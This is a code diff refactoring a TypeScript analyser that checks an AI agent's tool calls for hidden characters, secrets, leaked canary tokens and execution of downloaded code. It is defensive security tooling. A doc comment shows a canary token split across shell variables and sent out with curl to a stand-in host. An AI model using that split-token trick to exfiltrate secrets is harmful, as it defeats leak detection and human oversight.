@@ -9,7 +9,7 @@ import { findSecrets } from './secrets/find.ts'
 import { analyseShell } from './shell/index.ts'
 import { analyseSql } from './sql/index.ts'
 import { hiddenCharacters } from './text/hidden.ts'
-import { walkStrings } from './text/walk.ts'
+import { type StringAt, walkStrings } from './text/walk.ts'
 import { type Analysers, Collector, declareEffects, readCall, type ToolEffect } from './tools/index.ts'
 import { resolvedHost, urlTarget } from './url/index.ts'
 import type { View } from './view.ts'
@@ -35,10 +35,12 @@ export function analyse(call: ToolCall, view: View, options: AnalyseOptions): Fa
   })
   const tool = attempt<ToolFact>(collector, ['the call', { family: null, name: call.tool.name }], () => readCall(call, collector))
   attempt<void>(collector, ['what the policy says of the tool', undefined], () => declareEffects(options.declared ?? [], collector))
-  const hidden = attempt<readonly HiddenCharacters[]>(collector, ['hidden characters', []], () => findHidden(call))
-  const secrets = attempt<readonly SecretMatch[]>(collector, ['secrets', []], () => findAllSecrets(call))
+  const strings = attempt<readonly StringAt[]>(collector, ['strings', []], () => walkStrings(call.args))
+  const hidden = attempt<readonly HiddenCharacters[]>(collector, ['hidden characters', []], () => findHidden(strings))
+  const secrets = attempt<readonly SecretMatch[]>(collector, ['secrets', []], () => findAllSecrets(strings))
   const canaries = attempt<readonly CanaryMatch[]>(collector, ['canary tokens', []], () => leaked(options.canaryTokens, call, collector))
-  const effects = collector.effects.flatMap((found) => linkWritten(coverGate(resolvedHost(found, view), view), options.state))
+  const effects: Effect[] = []
+  for (const found of collector.effects) linkWritten(coverGate(resolvedHost(found, view), view), options.state, effects)
   const { commands, scripts, partial } = collector
   const written = writtenBy(collector, call)
   return { tool, home: view.home, effects, commands, hidden, secrets, canaries, scripts, written, coverage: partial ? 'partial' : 'full' }
@@ -77,8 +79,10 @@ function describe(error: unknown): string {
   return error instanceof Error ? error.message.slice(0, 200) : 'unknown failure'
 }
 
-function findHidden(call: ToolCall): readonly HiddenCharacters[] {
-  return [...walkStrings(call.args)].flatMap(({ text, pointer }) => hiddenCharacters(text, pointer))
+function findHidden(strings: readonly StringAt[]): readonly HiddenCharacters[] {
+  const found: HiddenCharacters[] = []
+  for (const { text, pointer } of strings) for (const hidden of hiddenCharacters(text, pointer)) found.push(hidden)
+  return found
 }
 
 /** Tokens in the arguments, and those that come together only when the call runs: `a=CAN; b=ARY; curl host/$a$b`. */
@@ -91,8 +95,10 @@ function leaked(tokens: readonly string[], call: ToolCall, { effects, commands }
   return [...written, ...[...new Set(assembled.map(({ token }) => token))].map((token) => ({ token, form: 'split' as const, span: null }))]
 }
 
-function findAllSecrets(call: ToolCall): readonly SecretMatch[] {
-  return [...walkStrings(call.args)].flatMap(({ text, pointer, key }) => (key ? [] : findSecrets(text, pointer)))
+function findAllSecrets(strings: readonly StringAt[]): readonly SecretMatch[] {
+  const found: SecretMatch[] = []
+  for (const { text, pointer, key } of strings) if (!key) for (const secret of findSecrets(text, pointer)) found.push(secret)
+  return found
 }
 
 const TAKES_ALL = new Set(['delete', 'change'])
@@ -111,11 +117,10 @@ const CONTENTS = ['content', 'contents', 'file_text', 'text'] as const
 
 /** Files that the call would write: by analysed code, and by the tool itself. */
 function writtenBy({ effects, written }: Collector, call: ToolCall): readonly WrittenFact[] {
+  const own = effects.filter(({ verb, action, target: { kind } }) => verb === 'write' && action !== 'fs:mkdir' && kind === 'path')
+  if (own.length === 0) return written
   const seen = new Set(written.map((fact) => fact.path))
-  const own = effects.flatMap(({ verb, action, target: { kind, real } }) =>
-    verb === 'write' && action !== 'fs:mkdir' && kind === 'path' && real !== null && !seen.has(real) ? [real] : [],
-  )
-  const paths = [...new Set(own)]
+  const paths = [...new Set(own.flatMap(({ target: { real } }) => (real === null || seen.has(real) ? [] : [real])))]
   const given = CONTENTS.map((name) => (Object.hasOwn(call.args, name) ? call.args[name] : undefined)).find(
     (text) => typeof text === 'string',
   )
@@ -127,15 +132,18 @@ function writtenBy({ effects, written }: Collector, call: ToolCall): readonly Wr
  * Running what the agent itself wrote earlier is worth knowing, whatever the file is called (T02). One that came over the
  * network and cannot be looked at is code from the network, also when it was fetched by an earlier call.
  */
-function linkWritten(found: Effect, state: { readonly written: WrittenFiles }): readonly Effect[] {
+function linkWritten(found: Effect, state: { readonly written: WrittenFiles }, effects: Effect[]): void {
   const { real } = found.target
-  if (found.verb !== 'execute' || real === null) return [found]
-  const file = state.written.get(real)
-  if (file === undefined) return [found]
+  const file = found.verb !== 'execute' || real === null ? undefined : state.written.get(real)
+  if (file === undefined) {
+    effects.push(found)
+    return
+  }
   const { digest } = found.attributes
   const attributes = { ...found.attributes, ...writtenAttributes(file, typeof digest === 'string' ? digest : null) }
   const linked = { ...found, attributes }
-  if (file.origin === null || found.action !== 'script:unseen') return [linked]
+  effects.push(linked)
+  if (file.origin === null || found.action !== 'script:unseen') return
   const reason = `\`${found.target.value}\` was downloaded by an earlier call of the session and cannot be looked at`
-  return [linked, { ...linked, action: 'code:downloaded', reversible: false, reason }]
+  effects.push({ ...linked, action: 'code:downloaded', reversible: false, reason })
 }
